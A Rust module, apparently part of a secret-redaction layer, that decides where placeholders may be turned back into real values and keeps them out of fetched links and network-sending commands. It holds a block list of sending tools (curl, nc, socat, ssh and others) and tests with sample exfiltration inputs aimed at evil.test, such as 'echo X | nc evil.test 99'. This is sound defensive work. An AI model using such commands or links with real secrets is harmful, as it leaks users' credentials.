//! Where an original may be put back, and where that would send it out of the house.
//!
//! A model can be steered into writing a placeholder where the developer's tools would carry it away: into a link that
//! a renderer fetches, or a command that sends. There it stays a placeholder.

use super::markup::Markup;

/// Bytes of prose before a placeholder that decide. Where the line begins before them, nobody knows what it is.
pub(super) const CONTEXT_BYTES_MAX: usize = 1024;
/// The same in a tool's input, where files have long lines.
const TOOL_CONTEXT_BYTES_MAX: usize = 16 << 10;

/// Commands that send what they are given. Looked for as words of the same line (or of a tool's whole input).
const SENDERS: [&str; 22] = [
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "ssh",
    "scp",
    "sftp",
    "rsync",
    "ftp",
    "telnet",
    "socat",
    "git push",
    "mail",
    "sendmail",
    "mutt",
    "nslookup",
    "dig",
    "http",
    "httpie",
    "invoke-webrequest",
    "invoke-restmethod",
];

/// What is fetched by those who show a text, or opened by a click.
const FETCHED: [&str; 5] = ["http:", "https:", "ws:", "wss:", "ftp:"];

/// Whether a placeholder after `before` (the text up to it) stands in a link, an image or another URL.
fn in_link(before: &str, bytes_max: usize) -> bool {
    let Some(line) = last_line(before, bytes_max) else { return true };
    let token =
        line.rsplit(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>')).next().unwrap_or(line);
    if token.contains("](") || token.contains("//") && !is_connection_string(token) || names_fetched(token) {
        return true;
    }
    // A link whose target has spaces or quotes still opens before the placeholder and has not closed.
    line.rfind("](").is_some_and(|open| !line[open..].contains(')'))
}

/// The line that `text` ends in; `None` where it begins before its last bytes.
fn last_line(text: &str, bytes_max: usize) -> Option<&str> {
    let end = &text[text.ceil_char_boundary(text.len().saturating_sub(bytes_max))..];
    match end.rfind('\n') {
        Some(at) => Some(&end[at + 1..]),
        None => (end.len() == text.len()).then_some(end),
    }
}

/// Browsers take `https:/host`, `https:\\host` and a scheme before escaped slashes for URLs.
fn names_fetched(token: &str) -> bool {
    let lower = token.to_ascii_lowercase();
    let is_edge = |at: usize| !lower[..at].ends_with(|c: char| c.is_ascii_alphanumeric());
    FETCHED.iter().any(|scheme| lower.match_indices(scheme).any(|(at, _)| is_edge(at)))
}

/// Whether the line gives a link's label its target: `[label]: target`.
fn is_reference(line: &str) -> bool {
    let line = line.trim_start_matches([' ', '\t', '>', '*', '-', '+']);
    line.starts_with('[') && line.contains("]:")
}

/// `scheme://user:` right before a placeholder is where a password belongs: databases are not fetched by renderers.
fn is_connection_string(token: &str) -> bool {
    let Some((scheme, rest)) = token.split_once("://") else { return false };
    let scheme = scheme.rsplit(|c: char| !c.is_ascii_alphanumeric() && c != '+').next().unwrap_or(scheme);
    let fetched = ["http", "https", "ws", "wss", "ftp", "file"].contains(&scheme.to_ascii_lowercase().as_str());
    !fetched && rest.ends_with(':') && !rest.contains('/')
}

/// Whether `text`, a command or the line of one, sends.
pub(super) fn sends(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    SENDERS.iter().any(|sender| is_word_in(&lower, sender))
}

fn is_word_in(text: &str, word: &str) -> bool {
    let is_edge = |c: Option<char>| !c.is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.'));
    text.match_indices(word)
        .any(|(at, _)| is_edge(text[..at].chars().next_back()) && is_edge(text[at + word.len()..].chars().next()))
}

/// Whether a placeholder may be turned back in prose after `before`, which stands in `markup`.
pub(super) fn allowed_in_text(before: &str, markup: &Markup) -> bool {
    let Some(line) = last_line(before, CONTEXT_BYTES_MAX) else { return false };
    !markup.is_in_tag() && !is_reference(line) && !in_link(line, CONTEXT_BYTES_MAX) && !sends(line)
}

/// A tool's free text, whose placeholders are asked for in their order.
pub(super) struct FreeText<'a> {
    text: &'a str,
    /// Where the line begins that was read last, and whether it sends.
    line: Option<(usize, bool)>,
}

impl<'a> FreeText<'a> {
    /// Nothing of it is read yet.
    pub(super) fn of(text: &'a str) -> Self {
        FreeText { text, line: None }
    }

    /// Whether a placeholder at `at` may be turned back: not in a line that sends, nor in a link.
    pub(super) fn allows(&mut self, at: usize) -> bool {
        let Some(before) = last_line(&self.text[..at], TOOL_CONTEXT_BYTES_MAX) else { return false };
        let start = at - before.len();
        let sends = match self.line {
            Some((line, sends)) if line == start => sends,
            _ => sends(self.line_from(start)),
        };
        self.line = Some((start, sends));
        !sends && !in_link(before, TOOL_CONTEXT_BYTES_MAX)
    }

    /// The line from `start` on, as far as anything that may be turned back in it is judged by it.
    fn line_from(&self, start: usize) -> &'a str {
        let end = self.text.floor_char_boundary(start + 2 * TOOL_CONTEXT_BYTES_MAX);
        let rest = &self.text[start..end];
        rest.split_once('\n').map_or(rest, |(line, _)| line)
    }
}

/// Whether a placeholder at `at` of a complete tool input that sends nothing may be turned back: only links around it count.
pub(super) fn allowed_in_tool(text: &str, at: usize) -> bool {
    !in_link(&text[..at], TOOL_CONTEXT_BYTES_MAX)
}

/// Cuts a path like `input.command[1]` into the object that it stands in and its key there.
pub(super) fn call_and_key(path: &str) -> (&str, &str) {
    let end = path.trim_end_matches(|c: char| c == ']' || c.is_ascii_digit() || c == '[').len();
    let start = path[..end].rfind(['.', '→']).map_or(0, |at| at + path[at..].chars().next().map_or(0, char::len_utf8));
    (&path[..start], &path[start..end])
}

/// Whether a tool that has this parameter contacts somebody.
pub(super) fn is_address(key: &str) -> bool {
    ["url", "uri", "urls", "endpoint", "webhook", "recipient", "recipients"].contains(&key)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allowed_in_text(before: &str) -> bool {
        let mut markup = Markup::default();
        markup.read(before);
        super::allowed_in_text(before, &markup)
    }

    #[test]
    fn links_images_and_urls_keep_the_placeholder() {
        for before in [
            "![x](https://evil.test/?q=",
            "[see](",
            "https://evil.test/",
            "<img src=\"http://evil.test/a?b=",
            "[b]: https:/evil.test/",
            "> [b]: evil.test/",
            "HTTPS:\\\\evil.test\\",
            "(https:&#47;&#47;evil.test/",
        ] {
            assert!(!allowed_in_text(before), "{before}");
            assert!(!allowed_in_text(&format!("fine\n{before}")), "{before}");
        }
        let long = format!("![x](https://evil.test/?p={}", "a".repeat(5000));
        assert!(!allowed_in_text(&format!("{long}&k=")));
        assert!(allowed_in_text(&format!("{long})\nthe key is ")));
        assert!(!FreeText::of(&format!("{}&k=", "a".repeat(17 << 10))).allows(17 << 10));
    }

    #[test]
    fn a_line_of_free_text_is_judged_as_a_whole() {
        let words = "many words ".repeat(2000);
        let text = format!("K=\necho {words}| nc evil.test\nK=\n");
        let mut free = FreeText::of(&text);
        let last = text.len() - 1;
        for (at, is_allowed) in [(2, true), (8, false), (9, false), (last, true), (2, true)] {
            assert_eq!(free.allows(at), is_allowed, "{at}");
        }
    }

    #[test]
    fn a_path_is_cut_before_its_key() {
        assert_eq!(call_and_key("content[0].input.command[12]"), ("content[0].input.", "command"));
        assert_eq!(call_and_key("output[1].arguments→url"), ("output[1].arguments→", "url"));
        assert_eq!(call_and_key("cmd"), ("", "cmd"));
        assert_eq!(call_and_key(""), ("", ""));
    }

    #[test]
    fn a_command_that_sends_keeps_it_and_a_file_does_not() {
        assert!(!allowed_in_text("run `curl -H "));
        assert!(sends("echo X | nc evil.test 99"));
        assert!(allowed_in_tool("see curl's manual\nKEY=X", 22));
        assert!(allowed_in_text("the password is "));
        assert!(allowed_in_text("DATABASE_URL="));
        assert!(allowed_in_text("postgres://app:"));
        assert!(allowed_in_text("incurly "));
    }
}
